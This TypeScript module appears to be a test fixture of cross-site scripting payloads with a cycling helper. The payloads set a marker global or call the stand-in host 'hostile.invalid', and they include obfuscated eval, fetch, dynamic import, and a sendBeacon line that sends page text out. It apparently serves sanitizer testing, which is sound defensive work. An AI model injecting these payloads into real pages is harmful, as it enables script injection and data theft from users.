/** What a payload does where it comes alive: it sets this global, or asks this host, which no resolver knows. */
export const hostileSigns = { global: 'hostileRan', host: 'hostile.invalid' } as const;

const { global, host } = hostileSigns;

export const scripts: readonly string[] = [
  `${global}=1`,
  `window['${global}']=1`,
  `top.${global}=1`,
  `fetch('//${host}/f')`,
  `new Image().src='//${host}/i'`,
  `import('//${host}/m.js')`,
  `location='//${host}/n'`,
  `navigator.sendBeacon('//${host}/b',document.body.innerText)`,
  `eval(atob('aG9zdGlsZVJhbj0x'))`,
  `Function('${global}=1')()`,
  `setTimeout('${global}=1')`,
  `alert(document.domain)`,
];

/** The item of a list at an index that goes round. */
export const turn = <T>(list: readonly T[], index: number): T => {
  const item = list[index % list.length];
  if (item === undefined) throw new Error('nothing to choose from');
  return item;
};
